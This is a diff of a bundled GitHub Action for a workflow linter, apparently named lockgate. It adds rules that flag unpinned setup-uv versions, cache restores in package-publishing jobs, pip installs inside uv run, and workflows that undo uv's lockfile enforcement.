+        return { kind: 'latest', what: `setup-uv v${major} without \`version:\` installs the newest uv release at the moment the job runs`, confidence: 'high' };
+    }
+    const project = projectAt(ctx, step.workingDirectory);
+    if (project === 'unknown') {
+        return {
+            kind: 'latest',
+            what: 'setup-uv without `version:` reads required-version from the uv.toml or pyproject.toml in its working directory, which lockgate could not read here, and otherwise installs the newest uv release',
+            confidence: 'medium',
+        };
+    }
+    const required = project ? requiredVersionOf(project) : undefined;
+    if (required)
+        return unpinned(classifyUvVersion(required.value), `setup-uv reads required-version = "${required.value}" from ${required.file}`, 'high');
+    return {
+        kind: 'latest',
+        what: 'setup-uv without `version:` installs the newest uv release at the moment the job runs (no required-version in uv.toml or pyproject.toml to read instead)',
+        confidence: 'high',
+    };
+}
+function unpinned(request, source, confidence) {
+    if (request.kind === 'latest')
+        return { kind: 'latest', what: `${source} installs the newest uv release at the moment the job runs`, confidence };
+    if (request.kind === 'range')
+        return { kind: 'range', what: `${source} is a range: setup-uv installs the highest uv release in it when the job runs`, confidence };
+    return undefined;
+}
+/** setup-uv's order (src/version/version-request-resolver.ts): uv.toml, then pyproject.toml's [tool.uv]. */
+function requiredVersionOf(project) {
+    const fromUvToml = own(project.uvToml?.raw, 'required-version');
+    if (typeof fromUvToml === 'string' && project.uvToml)
+        return { value: fromUvToml, file: project.uvToml.file };
+    const fromPyproject = own(own(own(project.rootPyproject.raw, 'tool'), 'uv'), 'required-version');
+    if (typeof fromPyproject === 'string')
+        return { value: fromPyproject, file: project.rootPyproject.file };
+    return undefined;
+}
+/**
+ * The uv project in setup-uv's working directory (the workspace root by default). `null`: there is
+ * no pyproject.toml or uv.toml there, so setup-uv falls back to the newest uv; 'unknown': the
+ * directory is an expression, or its files were not read as a project.
+ */
+function projectAt(ctx, workingDirectory) {
+    const raw = (workingDirectory ?? '').replace(/^\$\{\{\s*github\.workspace\s*\}\}\/?/, '');
+    if (raw.includes('${{') || raw.startsWith('/'))
+        return 'unknown';
+    const dir = raw.replace(/^\.\/?/, '').replace(/\/+$/, '');
+    const pair = ctx.projects.find((p) => p.path === dir);
+    if (pair?.head)
+        return pair.head;
+    const prefix = dir ? `${dir}/` : '';
+    const hasConfig = ctx.headFiles.includes(`${prefix}pyproject.toml`) || ctx.headFiles.includes(`${prefix}uv.toml`);
+    return hasConfig ? 'unknown' : null;
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/uv-cache-in-publish.ts
+/**
+ * setup-uv's GitHub Actions cache in a job that publishes a package: the job restores wheels (and,
+ * with `cache-python: true`, Python interpreters) that any other run on the default branch could
+ * have saved. setup-uv's defaults change with its major version (src/workflows/setup-uv.ts), which
+ * is what this rule reads and a generic cache rule does not.
+ *
+ * The relation to cache-poisoning (zizmor's audit of the same name): the steps that rule reports
+ * (src/workflows/cache-steps.ts: a release, tag-push or release-branch workflow, or a job with a
+ * publishing action, and the cache on for one of the workflow's events) are left to it. This rule reports what it does not see: a job that publishes with
+ * `uv publish` or `twine upload` in `run:`, and setup-uv v10's `auto` cache, which is off for
+ * release and tag-push runs but on for the workflow's other events (`workflow_dispatch`, a branch
+ * push, `schedule`). `cache-python: true` is reported in every case: its fix is its own.
+ */
+
+
+
+
+
+const uv_cache_in_publish_rule = defineRule({
+    meta: {
+        id: 'uv-cache-in-publish',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'medium',
+        summary: "A job that publishes a package restores setup-uv's cache.",
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const perJob = new Map();
+            // The steps cache-poisoning reports (the same facts): one line, one finding with the same advice.
+            const leftToCachePoisoning = new Set(publishingCacheSteps(wf).map((found) => found.s.step));
+            for (const step of setupUvSteps(wf)) {
+                const nth = (perJob.get(step.s.jobId) ?? 0) + 1;
+                perJob.set(step.s.jobId, nth);
+                const reasons = publishReasons(wf, step.s.jobId);
+                if (reasons.length === 0)
+                    continue;
+                // `auto` is off on self-hosted runners.
+                if (step.enableCache?.value !== 'true' && selfHosted(step))
+                    continue;
+                const events = runEventsOf(wf);
+                const onFor = events.filter((e) => cacheOnFor(step, e) === true);
+                if (onFor.length === 0)
+                    continue;
+                const cachePython = step.cachePython?.value.toLowerCase() === 'true';
+                if (!cachePython && leftToCachePoisoning.has(step.s.step))
+                    continue;
+                const pos = posOf(wf, step.enableCache?.node ?? step.usesNode);
+                const why = describePublishReason(reasons[0]);
+                const how = step.enableCache?.value === 'true'
+                    ? 'enable-cache: true'
+                    : `the default enable-cache: auto of setup-uv ${step.major !== undefined ? `v${step.major}` : 'v10 and later'}, on for ${eventNames(onFor)} runs`;
+                const message = cachePython
+                    ? `This publishing job restores Python interpreters from setup-uv's cache (cache-python: true, with ${how}): the interpreter that builds the release comes from a cache any other run on the branch could have saved; ${why}.`
+                    : `This publishing job restores setup-uv's cache (${how}): the wheels and built packages uv reuses come from a cache any other run on the branch could have saved, including runs of untrusted code, and go into the release; ${why}.`;
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message,
+                    fix: cachePython
+                        ? "Set cache-python: false and enable-cache: false under this step's with: (a release is built from a clean cache)."
+                        : "Set enable-cache: false under this step's with: (a release is built from a clean cache), or restore-cache: false.",
+                    subject: `${step.s.jobId}:setup-uv#${nth}${cachePython ? ':python' : ''}`,
+                    confidence: step.major === undefined && step.enableCache?.value !== 'true' ? 'low' : undefined,
+                });
+            }
+        }
+    },
+});
+function eventNames(events) {
+    const names = [...new Set(events.map((e) => (e.name === 'push' ? (e.tagPush ? 'tag push' : 'branch push') : e.name)))];
+    return names.join(', ');
+}
+/** `runs-on: self-hosted` or a label list with it. */
+function selfHosted(step) {
+    const runsOn = get(step.s.jobNode, 'runs-on');
+    const labels = [str(runsOn), ...items(runsOn).map(str), ...items(get(runsOn, 'labels')).map(str), str(get(runsOn, 'labels'))];
+    return labels.some((l) => l?.trim().toLowerCase() === 'self-hosted');
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/pip-in-uv-run.ts
+
+
+
+
+const pip_in_uv_run_rule = defineRule({
+    meta: {
+        id: 'pip-in-uv-run',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'high',
+        summary: 'A workflow runs pip install inside uv run, past uv.lock.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const flagged = [];
+            for (const rc of runCommands(wf)) {
+                const installArgs = pipInsideUvRun(rc);
+                if (installArgs)
+                    flagged.push({ rc, text: commandText(rc), installArgs });
+            }
+            const subjects = occurrenceSubjects(flagged, (f) => `${f.rc.job}:${f.text}`);
+            flagged.forEach((f, i) => {
+                const unhashed = pipArgsUnhashed(f.installArgs);
+                report({
+                    file: wf.file,
+                    line: f.rc.line,
+                    message: `\`${f.text}\` installs into the project's environment past uv.lock: what it installs is in no lock and was in no review` +
+                        `${unhashed ? ', comes from the index without hashes,' : ''} and the next uv sync removes it again. ` +
+                        "A uv environment has no pip unless one is added, so this may also run another environment's pip from PATH.",
+                    fix: 'Add the package to the project (uv add --dev <package>, reviewed with its hashes in uv.lock) and install with uv sync --locked; for a tool, uvx <tool>@<version>',
+                    subject: subjects[i],
+                    level: unhashed ? 'warning' : 'notice',
+                });
+            });
+        }
+    },
+});
+/** The arguments after `pip install` when `uv run` runs pip, else undefined. */
+function pipInsideUvRun(rc) {
+    const uv = uvInvocation(rc.name, rc.args);
+    if (uv?.subcommand !== 'run')
+        return undefined;
+    const args = uv.args;
+    let i = 0;
+    let module = false;
+    for (; i < args.length; i++) {
+        const word = args[i].value;
+        if (word === '--') {
+            i++;
+            break;
+        }
+        if (word === '-m' || word === '--module') {
+            module = true;
+            i++;
+            break;
+        }
+        if (!word.startsWith('-') || word === '-')
+            break;
+        // Outside a project there is no lock to go past.
+        if (word === '--no-project' || word === '--script' || word === '--gui-script')
+            return undefined;
+        if (!word.includes('=') && UV_RUN_WITH_VALUE.has(word))
+            i++;
+    }
+    const rest = args.slice(i).map((a) => a.value);
+    const command = (rest[0] ?? '').replace(/^.*[/\\]/, '').toLowerCase();
+    if (module)
+        return command === 'pip' && rest[1] === 'install' ? args.slice(i + 2) : undefined;
+    if (/^pip(\d+(\.\d+)?)?$/.test(command))
+        return rest[1] === 'install' ? args.slice(i + 2) : undefined;
+    if (/^(python(\d+(\.\d+)?)?|py)$/.test(command)) {
+        let j = 1;
+        while (j < rest.length && rest[j].startsWith('-') && rest[j] !== '-m')
+            j++;
+        if (rest[j] === '-m' && rest[j + 1] === 'pip' && rest[j + 2] === 'install')
+            return args.slice(i + j + 3);
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/uv-lock-overridden.ts
+/**
+ * A lock that the workflow asks for and then takes back:
+ * - UV_LOCKED / UV_FROZEN set true for the workflow, the job or by an earlier step, and set false
+ *   or unset for a `uv sync` / `uv run` / `uv export` / `uv lock` (step `env:`, `UV_LOCKED=0 uv sync`,
+ *   `export`, `unset`, `env -u`). uv-unlocked counts the wider setting as the lock and stays silent;
+ *   this rule reports the command it does not cover.
+ * - uv.lock rewritten in the job (`uv lock` without --check, `uv lock --upgrade`, `uv add`,
+ *   `uv remove`) before a `uv sync --locked` (or `--frozen`, or under UV_LOCKED / UV_FROZEN): the check
+ *   then passes against the lock the job just wrote, not the one that was reviewed. A job that then
+ *   commits or opens a pull request (a lock-upgrade job) is not reported.
+ * uv has no `--no-locked` or `--no-frozen`; `--upgrade` with `--locked` is an error uv reports itself.
+ */
+
+
+
+
+
+
+
+const uv_lock_overridden_rule = defineRule({
+    meta: {
+        id: 'uv-lock-overridden',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'high',
+        summary: 'A workflow sets UV_LOCKED or UV_FROZEN, or runs uv sync --locked, and then undoes the lock.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            const commands = runCommands(wf);
+            const setByEarlierStep = earlierStepSetsLock(commands);
+            const flagged = [];
+            for (const rc of commands) {
+                const uv = uvInvocation(rc.name, rc.args);
+                if (!uv || !LOCKING_SUBCOMMANDS.has(uv.subcommand))
+                    continue;
+                const options = uv.subcommand === 'run' ? uvRunOptions(uv.args) : uv.args.map((a) => a.value);
+                if (options.some((o) => uv_lock_overridden_LOCK_FLAGS.has(o) || o.includes('${{')))
+                    continue;
+                if (uv.subcommand === 'run' && options.some((o) => NOT_A_PROJECT_RUN.has(o)))
+                    continue;
+                if (uv.subcommand === 'lock' && options.some((o) => o === '--script' || o === '--dry-run'))
+                    continue;
+                const override = lockOverride(rc, commands, setByEarlierStep);
+                if (!override)
+                    continue;
+                const text = commandText(rc);
+                flagged.push({
+                    rc,
+                    text,
+                    message: `\`${text}\` runs without the lock the workflow asks for: ${uv_lock_overridden_describe(override.outer)}, but ${uv_lock_overridden_describe(override.inner)}, ` +
+                        `so uv may re-resolve and rewrite uv.lock here instead of installing what was reviewed.`,
+                    fix: `Drop the override (${override.inner.scope === 'unset' ? `unset ${override.inner.key}` : `${override.inner.key}=${override.inner.value}`}); a step that must re-lock belongs in a reviewed pull request.`,
+                });
+            }
+            // A `uv lock` already reported for its override is not reported again for what follows it.
+            const overridden = new Set(flagged.map((f) => f.rc));
+            flagged.push(...rewritesBeforeLockedInstall(wf, commands, setByEarlierStep).filter((f) => !overridden.has(f.rc)));
+            const subjects = occurrenceSubjects(flagged, (f) => `${f.rc.job}:${f.text}`);
+            flagged.forEach((f, i) => report({ file: wf.file, line: f.rc.line, message: f.message, fix: f.fix, subject: subjects[i], confidence: f.confidence }));
+        }
+    },
+});
+/** Subcommands that read UV_LOCKED / UV_FROZEN to decide whether uv.lock may change. */
+const LOCKING_SUBCOMMANDS = new Set(['sync', 'run', 'export', 'lock']);
+const uv_lock_overridden_LOCK_FLAGS = new Set(['--locked', '--frozen', '--check', '--check-exists']);
+const NOT_A_PROJECT_RUN = new Set(['--script', '--no-project', '--no-sync', '--gui-script']);
+const UPGRADE_RE = /^(--upgrade|-U|--upgrade-package|-P|--upgrade-group)(=|$)/;
+function uv_lock_overridden_describe(setting) {
+    const where = {
+        command: 'this command sets',
+        unset: 'a command unsets',
+        step: "the step's env sets",
+        'github-env': 'an earlier step writes to $GITHUB_ENV',
+        job: "the job's env sets",
+        workflow: "the workflow's env sets",
+    };
+    const line = setting.line !== undefined && setting.scope !== 'command' ? ` (line ${setting.line})` : '';
+    if (setting.value === null)
+        return `${where.unset} ${setting.key}${line}`;
+    if (setting.scope === 'github-env')
+        return `${where['github-env']} ${setting.key}=1`;
+    return `${where[setting.scope]} ${setting.key}=${setting.value}${line}`;
+}
+/** Whether a uv command reads uv.lock as it stands: --locked / --frozen, or UV_LOCKED / UV_FROZEN in its env. */
+function installsLocked(rc, setByEarlierStep) {
+    const uv = uvInvocation(rc.name, rc.args);
+    if (!uv || !['sync', 'run', 'export', 'pip sync'].includes(uv.subcommand))
+        return false;
+    if (uv.subcommand === 'pip sync')
+        return false;
+    const options = uv.subcommand === 'run' ? uvRunOptions(uv.args) : uv.args.map((a) => a.value);
+    if (uv.subcommand === 'run' && options.some((o) => NOT_A_PROJECT_RUN.has(o)))
+        return false;
+    return options.some((o) => o === '--locked' || o === '--frozen') || lockedByEnv(rc, setByEarlierStep);
+}
+/** A command that rewrites uv.lock: `uv lock` (not a check), `uv add`, `uv remove`. The upgrade flags, for the message. */
+function lockRewrite(rc, setByEarlierStep) {
+    const uv = uvInvocation(rc.name, rc.args);
+    if (!uv || !['lock', 'add', 'remove'].includes(uv.subcommand))
+        return undefined;
+    const options = uv.args.map((a) => a.value);
+    if (options.some((o) => ['--check', '--locked', '--check-exists', '--frozen', '--dry-run', '--script'].includes(o) || o.includes('${{')))
+        return undefined;
+    // UV_LOCKED makes `uv lock` a check and `uv add` fail; UV_FROZEN makes them leave uv.lock alone.
+    if (lockedByEnv(rc, setByEarlierStep))
+        return undefined;
+    return { upgrade: uv.subcommand !== 'lock' || options.some((o) => UPGRADE_RE.test(o)) };
+}
+/** A job that commits or opens a pull request after re-locking: a lock-upgrade job, whose point is the new lock. */
+function proposesChange(wf, job, commands) {
+    if (commands.some((c) => c.job === job && ((c.name === 'git' && ['commit', 'push'].includes(c.args[0]?.value ?? '')) || (c.name === 'gh' && c.args[0]?.value === 'pr'))))
+        return true;
+    return stepsInContext(wf).some((s) => s.jobId === job &&
+        ['peter-evans/create-pull-request', 'stefanzweifel/git-auto-commit-action', 'ad-m/github-push-action', 'EndBug/add-and-commit'].some((repo) => usesAction(str(get(s.step, 'uses')), repo.toLowerCase())));
+}
+function rewritesBeforeLockedInstall(wf, commands, setByEarlierStep) {
+    const out = [];
+    commands.forEach((rc, i) => {
+        const rewrite = lockRewrite(rc, setByEarlierStep);
+        if (!rewrite)
+            return;
+        const later = commands.slice(i + 1).find((c) => c.job === rc.job && installsLocked(c, setByEarlierStep));
+        if (!later || proposesChange(wf, rc.job, commands))
+            return;
+        const text = commandText(rc);
+        const publishing = publishReasons(wf, rc.job).length > 0;
+        out.push({
+            rc,
+            text,
+            message: `\`${text}\` rewrites uv.lock before \`${commandText(later)}\` (line ${later.line}), whose lock check then passes against the lock this job just wrote` +
+                `${rewrite.upgrade ? ', with versions nobody reviewed' : ''}, not the one in the repository${publishing ? '; and this job publishes' : ''}.`,
+            fix: rewrite.upgrade
+                ? 'Upgrade in a pull request (uv lock --upgrade, reviewed there) and drop it from this job; to see what an upgrade would change here, use uv lock --upgrade --dry-run.'
+                : 'Replace it with uv lock --check (fails when uv.lock is out of date), or drop it.',
+            // A plain `uv lock` changes nothing when the lock is current: it hides a stale lock rather than upgrading.
+            confidence: rewrite.upgrade ? undefined : 'medium',
+        });
+    });
+    return out;
+}
+
 ;// CONCATENATED MODULE: ./src/rules/index.ts
+
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -51021,6 +52599,18 @@ const RULES = [
     archived_uses_rule,
     forbidden_uses_rule,
     typosquat_uses_rule,
+    cache_poisoning_rule,
+    use_trusted_publishing_rule,
+    github_env_rule,
+    hardcoded_container_credentials_rule,
+    dependabot_execution_rule,
+    misfeature_rule,
+    github_app_rule,
+    unpinned_tool_rule,
+    setup_uv_unpinned_rule,
+    uv_cache_in_publish_rule,
+    pip_in_uv_run_rule,
+    uv_lock_overridden_rule,
     // Not a check: the framework's finding for a rule that threw (rules/run.ts).
     internal_error_rule,
 ];
@@ -53373,8 +54963,8 @@ function fixDependabotCooldown(wf, where, cooldownDays) {
     return { ok: false, reason: 'no updates: entry at this position' };
 }
 // ------------------------------------------------------------------------ uv-unlocked
-const NOT_A_PROJECT_RUN = new Set(['--script', '--no-project', '--no-sync', '--gui-script']);
-const UPGRADE_RE = /^(--upgrade|-U|--upgrade-package|-P)(=|$)/;
+const workflow_fixes_NOT_A_PROJECT_RUN = new Set(['--script', '--no-project', '--no-sync', '--gui-script']);
+const workflow_fixes_UPGRADE_RE = /^(--upgrade|-U|--upgrade-package|-P)(=|$)/;
 /**
  * `--locked` after the subcommand of each `uv sync`, `uv run` and `uv export` on the finding's line
  * that has neither `--locked` nor `--frozen`. A command that upgrades is left to a person: `--locked`
@@ -53407,9 +54997,9 @@ function fixUvUnlocked(wf, where) {
                 break;
             options.push(word);
         }
-        if (options.some((o) => o === '--locked' || o === '--frozen' || o.includes('${{') || NOT_A_PROJECT_RUN.has(o)))
+        if (options.some((o) => o === '--locked' || o === '--frozen' || o.includes('${{') || workflow_fixes_NOT_A_PROJECT_RUN.has(o)))
             continue;
-        if (options.some((o) => UPGRADE_RE.test(o))) {
+        if (options.some((o) => workflow_fixes_UPGRADE_RE.test(o))) {
             upgrade = true;
             continue;
         }
@@ -54671,7 +56261,7 @@ async function run(env = process.env) {
     }
     // Loaded only now: an event that exits early never evaluates the engine, rules, client or reporters.
     // "eager": the module stays in dist/index.js (no chunk file beside it), evaluated on this import.
-    const { check } = await Promise.resolve(/* import() eager */).then(__nccwpck_require__.bind(__nccwpck_require__, 7831));
+    const { check } = await Promise.resolve(/* import() eager */).then(__nccwpck_require__.bind(__nccwpck_require__, 5070));
     await check(action, env, event, getInput);
 }
 /** One line, no stack trace (unless LOCKGATE_DEBUG), and never a secret. */
